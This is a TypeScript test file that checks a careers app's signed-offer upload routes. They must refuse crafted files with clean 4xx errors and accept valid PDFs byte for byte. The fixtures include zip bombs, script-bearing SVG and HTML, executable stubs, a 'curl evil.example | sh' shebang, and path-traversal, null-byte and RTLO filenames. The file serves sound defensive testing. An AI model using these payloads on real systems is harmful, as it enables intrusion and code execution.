import type { Dirent } from 'node:fs';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { offerApiPaths, SIGNED_UPLOAD_MAX_BYTES } from '@careers/contracts';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Database } from '../../db/database';
import { ADA, createTestApp, manualClock, seedForTests, type TestClient } from '../../test/app';
import { forEachDatabase } from '../../test/databases';
import { zipArchive } from '../../test/zip-archive';
import { sha256Hex } from './offer-evidence';
import { insertTestOffer, multipart, offerTableCounts, signedIn, smallPdf, type Part } from './offers.test-support';
import { buildUploadCorpus, type Sample } from './signed-upload.corpus';

/**
 * The upload path over HTTP, on both accept routes: the offer-level `accept` (field signed_offer_letter_pdf_file)
 * and the document-level `accept` (field signed_document_file).
 *
 * T07: every crafted file of the malformed corpus a browser can send (the two names with lone surrogates
 * cannot be: they arrive as U+FFFD) plus the HTTP-only cases below (a real zip-bomb DOCX, a zip in a zip, an
 * SVG with a script, a second file, the wrong field, an empty part), ≥ 200 per route → a JSON 4xx with a
 * clear message, never a 5xx; after each one the offer, document, event and e-sign token rows are what they
 * were (every column; file columns by their SHA-256) and the data directory holds no new file.
 *
 * T08: 100 valid files up to the 10 MB limit, on each database, uploaded and downloaded back byte for byte,
 * under a server-made name, as an attachment (RFC 6266, with filename*), with nosniff.
 */

let corpus: Awaited<ReturnType<typeof buildUploadCorpus>>;
let httpOnly: Crafted[];

/** A crafted upload: a corpus sample, or a whole form when the attack is in the form rather than the file. */
interface Crafted extends Sample {
  /** The part's declared type; browsers derive it from the name, an attacker picks it. */
  type?: string;
  /** Parts to send instead of one file part in the route's field (`FIELD` stands for that field's name). */
  parts?: Part[];
}

const FIELD = '\u0000field';

beforeAll(async () => {
  corpus = await buildUploadCorpus();
  httpOnly = buildHttpOnlyCases(corpus.good);
}, 60_000);

const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** What only an HTTP request can carry: real archives, declared types, and forms that are wrong as forms. */
function buildHttpOnlyCases(good: Uint8Array): Crafted[] {
  // 64 MB of zeros deflate to ~64 KB: a DOCX whose document.xml would fill memory if anything unpacked it.
  const zeros = new Uint8Array(64 * 1048576);
  const contentTypes = Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>');
  const bombDocx = zipArchive([
    { name: '[Content_Types].xml', data: contentTypes },
    { name: 'word/document.xml', data: zeros },
  ]);
  const inner = zipArchive([{ name: 'zeros.bin', data: zeros }]);
  const nested = zipArchive(Array.from({ length: 8 }, (_, i) => ({ name: `layer-${i}.zip`, data: inner, store: true })));
  const pdfInZip = zipArchive([{ name: 'signed-offer.pdf', data: good }]);
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/auth/me").then(r=>r.text()).then(alert)</script></svg>');
  const cases: Crafted[] = [
    { label: 'zip bomb docx (64 MB document.xml)', bytes: bombDocx, filename: 'signed-offer.docx', type: DOCX_TYPE },
    { label: 'zip bomb docx named .pdf', bytes: bombDocx, filename: 'signed-offer.pdf' },
    { label: 'nested zip bomb', bytes: nested, filename: 'signed-offer.zip', type: 'application/zip' },
    { label: 'a PDF inside a zip', bytes: pdfInZip, filename: 'signed-offer.zip', type: 'application/zip' },
    { label: 'svg with a script', bytes: svg, filename: 'signed-offer.svg', type: 'image/svg+xml' },
    { label: 'svg with a script named .pdf', bytes: svg, filename: 'signed-offer.pdf' },
    { label: 'html named .pdf, declared text/html', bytes: Buffer.from('<!doctype html><script>alert(1)</script>'), filename: 'signed-offer.pdf', type: 'text/html' },
    { label: 'ELF named .pdf, declared application/pdf', bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(256)]), filename: 'signed-offer.pdf' },
    { label: 'MZ named .pdf.exe', bytes: Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(256)]), filename: 'signed-offer.pdf.exe', type: 'application/x-msdownload' },
    { label: 'shebang named .pdf', bytes: Buffer.from('#!/bin/bash\ncurl evil.example | sh\n'), filename: 'signed-offer.pdf' },
    { label: 'two files', bytes: good, filename: 'a.pdf', parts: [{ name: FIELD, filename: 'a.pdf', content: good }, { name: FIELD, filename: 'b.pdf', content: good }] },
    { label: 'the file in another field', bytes: good, filename: 'a.pdf', parts: [{ name: 'file', filename: 'a.pdf', content: good }] },
    { label: 'an empty file part', bytes: new Uint8Array(), filename: '', parts: [{ name: FIELD, filename: '', content: new Uint8Array() }] },
    { label: 'a file and a typed signature', bytes: good, filename: 'a.pdf', parts: [{ name: 'agreed', value: 'true' }, { name: 'signature', value: 'Ada Lovelace' }, { name: FIELD, filename: 'a.pdf', content: good }] },
    { label: 'a good PDF and an oversize one', bytes: good, filename: 'a.pdf', parts: [{ name: FIELD, filename: 'a.pdf', content: good }, { name: FIELD, filename: 'b.pdf', content: new Uint8Array(SIGNED_UPLOAD_MAX_BYTES + 1) }] },
  ];
  return cases;
}

/** Names no browser can send as UTF-8 (a lone surrogate arrives as U+FFFD) are left to the validator's suite. */
const sendable = (sample: Sample): boolean => !/[\ud800-\udfff]/u.test(sample.filename.replace(/[\ud800-\udbff][\udc00-\udfff]/g, ''));

/** Declared types cycle through what browsers and attackers send; the server must not care. */
const DECLARED_TYPES = ['application/pdf', 'application/octet-stream', 'text/html', 'image/svg+xml', 'application/x-msdownload', 'application/pdf; charset=utf-8'];

/** Every offer row the upload routes could write, every column (file columns by SHA-256), in a stable order. */
async function offerState(database: Database): Promise<string> {
  const { db } = database;
  const digest = (bytes: Uint8Array | null) => (bytes === null ? null : `sha256:${sha256Hex(bytes)}`);
  const [offers, documents, events, tokens] = await Promise.all([
    db.selectFrom('offers').selectAll().orderBy('id').execute(),
    db.selectFrom('offerDocuments').selectAll().orderBy('id').execute(),
    db.selectFrom('offerEvents').selectAll().orderBy('id').execute(),
    db.selectFrom('esignTokens').selectAll().orderBy('tokenHash').execute(),
  ]);
  const files = documents.map((doc) => ({ ...doc, originalPdf: digest(doc.originalPdf), signedPdf: digest(doc.signedPdf), uploadedPdf: digest(doc.uploadedPdf) }));
  return JSON.stringify({ offers, documents: files, events, tokens });
}

/** The files under the data directory (SQLite's own database files aside, which every request may touch). */
function storedFiles(dir: string): string[] {
  return (readdirSync(dir, { recursive: true, withFileTypes: true }) as Dirent[])
    .filter((entry) => entry.isFile() && !/\.sqlite(-wal|-shm|-journal)?$/.test(entry.name))
    .map((entry) => join(entry.parentPath, entry.name))
    .sort();
}

const ROUTES = [
  { route: 'offer accept', field: 'signed_offer_letter_pdf_file', url: (offerId: string) => offerApiPaths.accept(offerId) },
  { route: 'document accept', field: 'signed_document_file', url: (offerId: string, documentId: string) => offerApiPaths.documentAccept(offerId, documentId) },
] as const;

forEachDatabase('offer uploads over HTTP (T07, T08)', (context) => {
  let app: FastifyInstance;
  let ada: TestClient;

  beforeAll(async () => {
    await seedForTests(context());
    ({ app } = await createTestApp(context(), { clock: manualClock() }));
    ada = await signedIn(app, ADA);
  });
  afterAll(() => app.close());

  it.each(ROUTES)('T07 $route ($field): refuses ≥ 200 crafted uploads with a JSON 4xx, stores nothing, changes no row', async ({ route, field, url }) => {
    const { offerId, documentIds } = await insertTestOffer(context().database, { email: ADA.email });
    const target = url(offerId, documentIds[0] as string);
    const crafted: Crafted[] = [...corpus.malformed.filter(sendable), ...httpOnly];
    expect(crafted.length).toBeGreaterThanOrEqual(200);
    for (const label of ['oversize by one byte', 'empty', 'encrypted handmade 1', 'program elf64', 'program pe', 'program shell', 'truncated inside %%EOF', 'zip bomb.bin', 'zip bomb docx (64 MB document.xml)', 'svg in the pdf head', 'html in the pdf head']) {
      expect(crafted.map((sample) => sample.label), label).toContain(label);
    }
    expect(crafted.find((sample) => sample.label === 'oversize by one byte')?.bytes.length).toBe(SIGNED_UPLOAD_MAX_BYTES + 1);
    const names = crafted.map((sample) => sample.filename);
    for (const name of ['../../../../etc/passwd', 'signed.pdf\u0000.exe', 'gpj.exe\u202Efdp.pdf', '%2e%2e%2fsigned.pdf']) expect(names).toContain(name);

    const filesBefore = storedFiles(context().dataDir);
    const countsBefore = await offerTableCounts(context().database);
    const statuses = new Map<number, number>();
    for (const [index, sample] of crafted.entries()) {
      const before = await offerState(context().database);
      const parts: Part[] = sample.parts?.map((part) => (part.name === FIELD ? { ...part, name: field } : part)) ?? [
        { name: field, filename: sample.filename, content: sample.bytes, type: sample.type ?? DECLARED_TYPES[index % DECLARED_TYPES.length] },
      ];
      const response = await ada.request({ method: 'POST', url: target, ...multipart(parts) });
      const what = `${route}: ${sample.label} → ${response.statusCode} ${response.body.slice(0, 200)}`;
      expect(response.statusCode, what).toBeGreaterThanOrEqual(400);
      expect(response.statusCode, what).toBeLessThan(500);
      expect(response.headers['content-type'], what).toContain('application/json');
      const { error } = response.json() as { error: { code: string; message: string } };
      expect(error.code, what).toMatch(/^[a-z_]+$/);
      // A clear message: a sentence the candidate can act on, no internals.
      expect(error.message, what).toMatch(/^[A-Z].{10,200}[.e]$/);
      expect(error.message, what).not.toMatch(/error|exception|undefined|stack|pdf-lib|busboy|\bat [\w.<>]+ \(/i);
      expect(await offerState(context().database), `${what}: rows changed`).toBe(before);
      statuses.set(response.statusCode, (statuses.get(response.statusCode) ?? 0) + 1);
    }
    expect(storedFiles(context().dataDir)).toEqual(filesBefore);
    expect((await context().database.db.selectFrom('offers').select('status').where('id', '=', offerId).executeTakeFirstOrThrow()).status).toBe('Extended');
    const counts = await offerTableCounts(context().database);
    expect(counts).toEqual(countsBefore);
    console.info(
      `T07 ${context().dialect} ${route}: ${crafted.length} crafted files refused (${JSON.stringify(Object.fromEntries([...statuses].sort()))}), 0 5xx, ` +
        `0 files stored (documents holding a file: ${countsBefore.storedFiles} before, ${counts.storedFiles} after; data dir unchanged), 0 rows changed`,
    );
  }, 60_000);

  it('T08: round-trips valid uploads byte for byte, as attachments under server-made names', async () => {
    const count = 100;
    const files: Sample[] = [...corpus.valid];
    for (let seed = 0; files.length < count; seed++) {
      files.push({ label: `generated ${seed}`, bytes: await smallPdf(seed, 1 + (seed % 3)), filename: `signed-${seed}.pdf` });
    }
    const chosen = files.slice(0, count);
    expect(chosen.some((file) => file.bytes.length === 10 * 1048576)).toBe(true);
    for (const [index, file] of chosen.entries()) {
      const { offerId, documentIds } = await insertTestOffer(context().database, { email: ADA.email });
      const documentId = documentIds[0] as string;
      const onDocument = index % 2 === 1;
      const body = multipart([{ name: onDocument ? 'signed_document_file' : 'signed_offer_letter_pdf_file', filename: file.filename, content: file.bytes }]);
      const upload = await ada.request({ method: 'POST', url: onDocument ? offerApiPaths.documentAccept(offerId, documentId) : offerApiPaths.accept(offerId), ...body });
      expect(upload.statusCode, file.label).toBe(200);

      const download = await ada.request({ method: 'GET', url: offerApiPaths.download(offerId, documentId) });
      expect(download.statusCode, file.label).toBe(200);
      expect(sha256Hex(download.rawPayload), file.label).toBe(sha256Hex(file.bytes));
      expect(download.headers['content-type']).toBe('application/pdf');
      expect(download.headers['x-content-type-options']).toBe('nosniff');
      // The name is ours, whatever the browser called the file.
      expect(download.headers['content-disposition']).toBe(`attachment; filename="offer-letter-${offerId}.pdf"; filename*=UTF-8''offer-letter-${offerId}.pdf`);
      expect(download.headers['content-disposition']).not.toContain(file.filename);
      const row = await context().database.db.selectFrom('offerDocuments').select(['uploadedSha256', 'uploadedFileName']).where('id', '=', documentId).executeTakeFirstOrThrow();
      expect(row.uploadedSha256).toBe(sha256Hex(file.bytes));
    }
    console.info(`T08 ${context().dialect}: ${chosen.length} uploads (largest ${Math.max(...chosen.map((f) => f.bytes.length))} bytes) downloaded back with identical SHA-256`);
  }, 90_000);
});
